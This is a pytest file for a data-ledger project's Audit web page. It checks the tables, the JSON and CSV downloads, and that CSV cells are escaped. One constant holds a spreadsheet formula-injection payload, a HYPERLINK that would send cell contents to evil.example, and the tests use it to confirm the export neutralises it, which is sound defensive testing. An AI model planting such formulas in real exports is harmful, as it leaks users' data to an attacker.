"""The Audit page against a real node on the embedded chain: its tables hold what
`dain.ledger.Auditor` reads (what `dain audit` prints), its JSON download is the document
`dain audit ... --json` prints, and its CSV download one row per event, with a formula
chosen by another member kept a piece of text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient

from dain.cli.context import emit
from dain.data import ConsentPolicy, format_asset_id
from dain.ledger import AssetTrail, Auditor, JobTrail, MemberTrail, format_dain
from dain.web import PREFIX
from tests.web.conftest import OwnerNet, client_for, log_in, owner_net
from tests.web.html import read

# a member chooses their policy's content id; in a spreadsheet this would run
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def net() -> OwnerNet:
    """The owner network after the hospital claimed its pay for the finished job, and set
    its idle asset's terms (naming a formula as their content id) and revoked them."""
    n = owner_net()
    n.hospital.ledger.jobs.claim(n.done_job, n.used)
    n.hospital.ledger.assets.set_policy(n.idle, ConsentPolicy(("diagnosis",)), FORMULA)
    n.hospital.revoke(n.idle)
    return n


@pytest.fixture(scope="module")
def client(net: OwnerNet) -> TestClient:
    client = client_for(net.hospital)
    log_in(client)
    return client


def _when(timestamp: int) -> str:  # as `dain audit` writes it
    import datetime as dt

    return dt.datetime.fromtimestamp(timestamp, dt.UTC).strftime("%Y-%m-%d %H:%M:%S")


def _body(page: object, name: str) -> list[list[str]]:
    return page.tables.get(("", name), [[]])[1:]  # type: ignore[attr-defined]  # after the header


def test_the_asset_page_shows_the_auditors_trail(net: OwnerNet, client: TestClient) -> None:
    trail = Auditor(net.hospital.ledger).asset(net.used)

    answer = client.get(f"{PREFIX}/audit/asset/{format_asset_id(net.used)}")

    page = read(answer.text)
    assert answer.status_code == 200
    assert dict(page.tables[("", "summary")]) == {
        "asset": format_asset_id(net.used),
        "owner": trail.owner,
        "paid": format_dain(sum(p.amount for p in trail.paid)),
        "waiting to be claimed": format_dain(sum(trail.owed.values())),
    }
    assert _body(page, "policy") == [
        [str(v["version"]), f"terms {v['policy_cid']}", str(v["block"])]
        for v in trail.policy_versions
    ]
    assert _body(page, "uses") == [
        [_when(u.timestamp), str(u.job_id), u.requester, str(u.round), u.purpose,
         str(u.policy_version), str(u.num_examples), str(u.block), u.tx_hash]
        for u in trail.uses
    ]  # fmt: skip
    assert len(trail.uses) == 2 and trail.paid  # both jobs; the finished one paid
    assert _body(page, "paid") == [
        [str(p.job_id), p.owner, format_dain(p.amount), str(p.block)] for p in trail.paid
    ]
    assert _body(page, "owed") == [[str(j), format_dain(a)] for j, a in trail.owed.items()]
    assert f"{PREFIX}/audit/job/{net.done_job}" in page.links
    assert f"{PREFIX}/audit/member/{trail.owner}" in page.links


def test_a_revocation_shows_in_the_policy_versions(net: OwnerNet, client: TestClient) -> None:
    page = read(client.get(f"{PREFIX}/audit/asset/{format_asset_id(net.idle)}").text)

    versions = _body(page, "policy")
    assert [v[0] for v in versions] == ["1", "2", "3"]  # revoking is a version too
    assert versions[1][1] == f"terms {FORMULA}"  # shown as text: the page escapes it
    assert versions[2][1] == "revoked"


def test_the_job_page_shows_the_auditors_trail(net: OwnerNet, client: TestClient) -> None:
    trail = Auditor(net.hospital.ledger).job(net.done_job)

    page = read(client.get(f"{PREFIX}/audit/job/{net.done_job}").text)

    assert dict(page.tables[("", "summary")]) == {
        "job": str(net.done_job), "status": "completed", "purpose": trail.purpose,
        "requester": trail.requester,
        "paid": format_dain(sum(p.amount for p in trail.paid)),
        "refunded to the requester": format_dain(trail.refunded),
    }  # fmt: skip
    assert _body(page, "rounds") == [
        [str(r["round"]), r["model_cid"], r["aggregator"], str(r["participants"]),
         f"{r['epsilon']:g}", str(r["block"])]
        for r in trail.rounds
    ]  # fmt: skip
    assert _body(page, "uses") == [
        [str(u["round"]), format_asset_id(u["asset_id"]), u["owner"], str(u["policy_version"]),
         str(u["num_examples"]), str(u["block"])]
        for u in trail.uses
    ]  # fmt: skip
    assert trail.paid and _body(page, "paid") == [
        [format_asset_id(p.asset_id), p.owner, format_dain(p.amount), str(p.block)]
        for p in trail.paid
    ]


def test_the_member_page_shows_the_auditors_trail(net: OwnerNet, client: TestClient) -> None:
    trail = Auditor(net.hospital.ledger).member(net.hospital.address)

    page = read(client.get(f"{PREFIX}/audit/member/{net.hospital.address}").text)

    summary = dict(page.tables[("", "summary")])
    assert summary["DID"] == trail.did and summary["admitted"] == "yes"
    assert summary["uses of their data"] == str(trail.uses_of_their_data)
    assert summary["rewards received"] == format_dain(trail.rewards_received) != format_dain(0)
    assert summary["rounds completed"] == str(trail.reputation["rounds_completed"])
    assert _body(page, "assets") == [[format_asset_id(a)] for a in trail.assets]
    assert ("", "jobs") not in page.tables  # the hospital requested none


def _cli_json(
    trail: AssetTrail | JobTrail | MemberTrail, capsys: pytest.CaptureFixture[str]
) -> str:
    """What `dain audit ... --json` prints for `trail` (its code path: `emit`)."""
    capsys.readouterr()
    emit(True, trail.to_dict(), lambda: None)
    return capsys.readouterr().out


def test_the_json_downloads_are_what_the_cli_prints(
    net: OwnerNet, client: TestClient, capsys: pytest.CaptureFixture[str]
) -> None:
    auditor = Auditor(net.hospital.ledger)
    cases = [
        ("asset", format_asset_id(net.used), auditor.asset(net.used)),
        ("job", str(net.done_job), auditor.job(net.done_job)),
        ("member", net.hospital.address, auditor.member(net.hospital.address)),
    ]
    for kind, key, trail in cases:
        answer = client.get(f"{PREFIX}/audit/{kind}/{key}.json")

        assert answer.status_code == 200
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["content-disposition"] == (
            f'attachment; filename="dain-audit-{kind}-{key}.json"'
        )
        assert answer.headers["content-security-policy"].startswith("default-src 'none'")
        assert answer.text == _cli_json(trail, capsys)
        assert json.loads(answer.text) == trail.to_dict()


def _csv(client: TestClient, path: str) -> list[dict[str, str]]:
    answer = client.get(f"{PREFIX}/audit/{path}.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    return list(csv.DictReader(io.StringIO(answer.text)))


def test_the_asset_csv_has_one_row_per_event(net: OwnerNet, client: TestClient) -> None:
    trail = Auditor(net.hospital.ledger).asset(net.used)
    hex_id = format_asset_id(net.used)

    rows = _csv(client, f"asset/{hex_id}")

    assert [r["kind"] for r in rows] == (
        ["asset", "policy_version"] + ["use"] * 2 + ["payment"] + ["owed"] * len(trail.owed)
    )
    assert rows[0]["asset_id"] == hex_id and rows[0]["owner"] == trail.owner
    uses = [r for r in rows if r["kind"] == "use"]
    assert [(int(r["job_id"]), int(r["round"]), r["purpose"], int(r["num_examples"]),
             int(r["block"]), r["tx_hash"], r["time_utc"]) for r in uses] == [
        (u.job_id, u.round, u.purpose, u.num_examples, u.block, u.tx_hash, _when(u.timestamp))
        for u in trail.uses
    ]  # fmt: skip
    payment = next(r for r in rows if r["kind"] == "payment")
    assert payment["asset_id"] == hex_id
    assert int(payment["amount"]) == trail.paid[0].amount  # base units, exact
    owed = {int(r["job_id"]): int(r["amount"]) for r in rows if r["kind"] == "owed"}
    assert owed == trail.owed


def test_the_job_and_member_csv(net: OwnerNet, client: TestClient) -> None:
    auditor = Auditor(net.hospital.ledger)
    job = auditor.job(net.done_job)
    member = auditor.member(net.hospital.address)

    job_rows = _csv(client, f"job/{net.done_job}")
    member_rows = _csv(client, f"member/{net.hospital.address}")

    assert [r["kind"] for r in job_rows] == ["job", "round", "use", "payment"][: len(job_rows)]
    assert job_rows[0]["purpose"] == job.purpose and job_rows[0]["status"] == "completed"
    assert job_rows[1]["model_cid"] == job.rounds[0]["model_cid"]
    assert job_rows[2]["asset_id"] == format_asset_id(net.used)
    assert int(job_rows[3]["amount"]) == job.paid[0].amount
    kinds = [r["kind"] for r in member_rows]
    assert kinds[:3] == ["member", "asset", "asset"] and "rewards_received" in kinds
    assert member_rows[0]["did"] == member.did and member_rows[0]["admitted"] == "true"
    rewards = next(r for r in member_rows if r["kind"] == "rewards_received")
    assert int(rewards["amount"]) == member.rewards_received > 0


def test_a_formula_a_member_chose_is_text_in_the_csv(net: OwnerNet, client: TestClient) -> None:
    rows = _csv(client, f"asset/{format_asset_id(net.idle)}")

    cids = [r["policy_cid"] for r in rows if r["kind"] == "policy_version"]
    assert cids[1] == "'" + FORMULA  # a spreadsheet shows it, does not run it
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
